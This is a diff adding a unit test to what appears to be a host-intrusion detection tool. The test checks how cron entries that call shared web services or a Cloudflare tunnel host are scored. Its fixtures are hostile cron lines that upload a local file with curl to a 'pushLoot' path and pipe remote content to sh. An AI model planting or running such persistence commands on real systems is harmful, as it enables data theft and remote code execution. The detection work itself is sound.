@@ -585,6 +585,36 @@ final class FeaturesTest {
                 "/usr/local/mesh_services/meshagent/meshagent.msh");
     }
 
+    /** Services that MITRE ATT&CK names under T1102 and T1567, of which a path or a token, and not the host, says whose they are. */
+    @Test
+    void aServiceThatEverybodyCallsIsNobodysHost() {
+        for (String host : List.of(
+                "api.telegram.org",
+                "discord.com",
+                "hooks.slack.com",
+                "pastebin.com",
+                "content.dropboxapi.com",
+                "drive.google.com",
+                "graph.microsoft.com",
+                "api.github.com",
+                "ifconfig.me")) {
+            String marked =
+                    "*/9 * * * * root curl -s https://" + host + "/k7Qz41/pushLoot?c=-88123 -F f=@/var/.zq | sh";
+            String bot = "30 6 * * 1 root curl -m 20 https://" + host + "/alertes/disque -d texte=plein";
+            assertEquals(Optional.empty(), ordinary(scheduled("zq", marked), scheduled("alerte", bot)), host);
+        }
+        // a name that anybody gets there is one's own
+        String tunnel = "@reboot root curl -s https://zq-mill-herb.trycloudflare.com/a | sh";
+        assertTrue(ordinary(
+                        scheduled("zq", tunnel),
+                        scheduled("other", "5 5 * * * root wget -qO- https://zq-mill-herb.trycloudflare.com/b"))
+                .isPresent());
+    }
+
+    private static Map<String, String> scheduled(String name, String value) {
+        return item("linux.cron.system", "cron.d/" + name, value);
+    }
+
     /** Certainty, if it is more than possible. */
     private static Optional<Certainty> ordinary(Map<String, String> marked, Map<String, String> seen) {
         return certainty(marked, seen).filter(each -> each != Certainty.POSSIBLE);
